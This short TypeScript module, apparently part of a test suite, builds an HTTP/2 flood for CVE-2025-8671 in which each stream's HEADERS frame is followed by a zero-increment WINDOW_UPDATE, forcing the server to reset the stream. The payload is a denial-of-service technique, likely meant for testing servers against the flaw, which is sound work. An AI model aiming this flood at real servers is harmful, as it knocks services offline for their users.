/** CVE-2025-8671: requests that the server must reset, because a frame after them is malformed. */
import { Buffer } from 'node:buffer';
import { windowUpdate } from '../../support/http2-frames.ts';
import { callHeaders, floodOf } from './http2-flood.ts';

export const madeYouReset = floodOf((i) => Buffer.concat([callHeaders(2 * i + 1), windowUpdate(2 * i + 1, 0)]));
